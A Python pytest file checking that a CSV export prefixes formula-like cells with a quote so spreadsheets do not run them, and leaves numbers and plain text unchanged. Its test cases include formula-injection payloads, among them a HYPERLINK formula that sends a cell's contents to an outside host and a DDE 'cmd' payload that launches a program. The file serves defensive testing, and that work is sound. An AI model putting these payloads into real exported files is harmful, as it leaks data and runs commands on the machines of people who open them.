"""CSV is opened in spreadsheets, which run a cell that looks like a formula."""

from __future__ import annotations

import csv
from io import StringIO

import pytest

from bacalhau_spot.ui.csv_output import CsvTable, csv_text


@pytest.mark.parametrize(
    "cell",
    ['=HYPERLINK("http://h?"&A1,"ok")', "+1+cmd|'/C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "-", "+a"],
)
def test_a_text_is_no_formula(cell: str) -> None:
    (_, row) = csv.reader(StringIO(csv_text(CsvTable(("a", "b"), ((cell, "x"),))), newline=""))
    assert row == [f"'{cell}", "x"]


@pytest.mark.parametrize(
    "cell", ["", "-1", "-0.25", "+2", "1e9", "-1.5e-3", "i-0123", "us-east-1", "a=b", "2026-01-31"]
)
def test_numbers_and_other_texts_are_as_they_are(cell: str) -> None:
    (_, row) = csv.reader(StringIO(csv_text(CsvTable(("a", "b"), ((cell, "x"),)))))
    assert row == [cell, "x"]
